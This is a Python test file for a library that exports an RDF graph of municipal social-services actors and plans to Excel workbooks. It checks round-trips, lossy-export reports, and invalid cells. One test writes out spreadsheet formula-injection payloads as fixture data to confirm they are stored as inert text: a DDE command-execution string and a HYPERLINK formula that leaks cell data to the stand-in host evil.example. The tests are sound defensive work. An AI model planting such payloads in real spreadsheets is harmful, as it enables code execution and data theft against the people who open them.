"""The workbook written from the graph: it reads back to the same graph or says what it cannot carry."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from rdflib import BNode, Graph, Literal, URIRef
from rdflib.compare import isomorphic

from graph.errors import DataError
from graph.io.load import read_dataset
from graph.io.workbook import NotCarried, graph_tables, write_template, write_workbook
from graph.namespaces import RDFS
from graph.schema import load_schema
from graph.store import OxigraphStore
from graph.xlsx_writer import MAX_CELL, xlsx_bytes

#: Names and descriptions a spreadsheet would run as formulas; a source with a comma inside.
HOSTILE = Path(__file__).parent / "fixtures" / "output" / "hostile"


def store_of(graph: Graph) -> OxigraphStore:
    store = OxigraphStore()
    store.add_graph(graph)
    return store


def sheet_xml(data: bytes) -> dict[str, str]:
    book = zipfile.ZipFile(io.BytesIO(data))
    return {n: book.read(n).decode("utf-8") for n in book.namelist() if n.startswith("xl/worksheets/")}


def test_workbook_round_trip_gives_the_same_graph(example_path, tmp_path):
    original = read_dataset(example_path)
    store = store_of(original.graph)
    for lang in ("de", "en"):
        target = tmp_path / f"aachen-{lang}.xlsx"
        assert write_workbook(store, target, lang=lang) == []  # nothing left out
        again = read_dataset(target, base=original.base)
        assert isomorphic(again.graph, original.graph), lang


def test_formulas_in_the_data_are_stored_as_text_and_read_back(tmp_path):
    original = read_dataset(HOSTILE)
    target = tmp_path / "hostile.xlsx"
    assert write_workbook(store_of(original.graph), target) == []
    sheets = sheet_xml(target.read_bytes())
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets.values())
    book = load_workbook(target)
    rows = list(book["Akteure"].iter_rows())
    column = {cell.value: i for i, cell in enumerate(rows[0])}
    actors = {row[0].value: row for row in rows[1:]}
    name, description = column["Name"], column["Beschreibung"]
    assert actors["GA"][name].value == "=cmd|' /C calc'!A0" and actors["GA"][name].data_type == "s"
    assert actors["FB 56"][name].value == '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
    assert actors["FB 56"][description].value == "+49 241 432-0"
    assert actors["AWO"][description].value == "#N/A"
    assert actors["AWO"][description].data_type == "s"  # text, not an error cell
    assert book["Planwerke"]["G2"].value == 2017 and book["Planwerke"]["G2"].data_type == "n"
    again = read_dataset(target, base=original.base)
    assert isomorphic(again.graph, original.graph)
    sources = {str(o) for o in again.graph.objects(None, RDFS.label) if "Anlage" in str(o)}
    assert sources == {"Vorlage FB 56/0118/WP17, Anlage 2"}  # the comma stays inside the source


def test_what_a_workbook_cannot_carry_is_named_and_nothing_is_written(tmp_path):
    original = read_dataset(HOSTILE)
    graph = Graph() + original.graph
    fb56 = URIRef(original.base + "actors/FB%2056")
    graph.add((fb56, RDFS.label, Literal("Housing", lang="en")))
    graph.add((BNode("b1"), RDFS.label, Literal("anonym")))
    graph.add((fb56, URIRef("urn:x:budget"), Literal(12)))
    target = tmp_path / "lossy.xlsx"
    with pytest.raises(NotCarried) as caught:
        write_workbook(store_of(graph), target)
    lines = str(caught.value).splitlines()
    assert re.fullmatch(r'  1 triples on blank nodes, e\.g\. _:\w+ rdfs:label "anonym"', lines.pop(1))
    assert lines == [
        "a workbook cannot carry the whole graph (45 triples); nothing was written:",
        "  1 language-tagged texts, e.g. <https://w3id.org/sozialgraph/id/hostile/actors/FB%2056> "
        'rdfs:label "Housing"@en',
        "  1 triples with a property the workbook has no column for, e.g. "
        '<https://w3id.org/sozialgraph/id/hostile/actors/FB%2056> <urn:x:budget> "12"^^xsd:integer',
        "  (--allow-loss writes the workbook without them; --to ttl keeps everything)",
    ]
    assert not target.exists()
    losses = write_workbook(store_of(graph), target, allow_loss=True)
    assert [(loss.what, loss.count) for loss in losses] == [
        ("triples on blank nodes", 1),
        ("language-tagged texts", 1),
        ("triples with a property the workbook has no column for", 1),
    ]
    assert isomorphic(read_dataset(target, base=original.base).graph, original.graph)


def test_a_cell_a_workbook_cannot_hold_is_refused_with_its_place(tmp_path):
    original = read_dataset(HOSTILE)
    graph = Graph() + original.graph
    ga = URIRef(original.base + "actors/GA")
    graph.remove((ga, RDFS.label, None))
    graph.add((ga, RDFS.label, Literal("Gesundheitsamt\x07")))
    graph.add(
        (
            URIRef(original.base + "themes/wohnen"),
            URIRef("http://purl.org/dc/terms/description"),
            Literal("x" * (MAX_CELL + 1)),
        )
    )
    with pytest.raises(DataError) as caught:
        write_workbook(store_of(graph), tmp_path / "bad.xlsx")
    assert [str(p) for p in caught.value.problems] == [
        "bad.xlsx [Akteure]:4 Name: contains the control character U+0007, which a workbook cannot hold",
        "bad.xlsx [Themen]:3 Beschreibung: is 32,768 characters long; a workbook cell holds at most 32,767",
    ]
    assert not (tmp_path / "bad.xlsx").exists()


def test_any_sheet_keeps_numbers_and_stores_text_as_text():
    data = xlsx_bytes({"my/query?": (["name", "n"], [["@SUM(A1)", -3], ["-1", 2.5], [None, None]])})
    (xml,) = sheet_xml(data).values()
    assert "<f>" not in xml
    assert re.findall(r'<c r="B\d" t="n"><v>([^<]*)</v>', xml) == ["-3", "2.5"]
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["my_query_"]
    assert [[c.value for c in row] for row in book.active.iter_rows()] == [
        ["name", "n"],
        ["@SUM(A1)", -3],
        ["-1", 2.5],
    ]  # the empty row is empty: nothing to read


def test_tables_use_ids_labels_and_german_values(example_path):
    tables = graph_tables(store_of(read_dataset(example_path).graph), lang="de")
    actors = tables["Akteure"].set_index("ID")
    assert actors.loc["GA", "Teil von"] == "SR"
    assert actors.loc["FB 56", "Typ"] == "Fachbereich"
    assert actors.loc["SR", "Typ"] == "externer Partner"
    plans = tables["Planwerke"].set_index("ID")
    assert plans.loc["GB", "Jahr"] == 2017
    assert plans.loc["GB", "Status"] == "aktiv"
    english = graph_tables(store_of(read_dataset(example_path).graph), lang="en")["plans"].set_index("id")
    assert english.loc["GB", "status"] == "active"


def test_template_has_every_sheet_and_header(tmp_path):
    path = write_template(tmp_path / "vorlage.xlsx", lang="de")
    book = load_workbook(path)
    schema = load_schema()
    assert book.sheetnames == ["# Anleitung"] + [s.name_de for s in schema.sheets]  # the explanation first
    for sheet in schema.sheets:
        headers = [c.value for c in book[sheet.name_de][1]]
        assert headers == [c.header_de for c in sheet.columns]
        assert book[sheet.name_de].max_row == 1
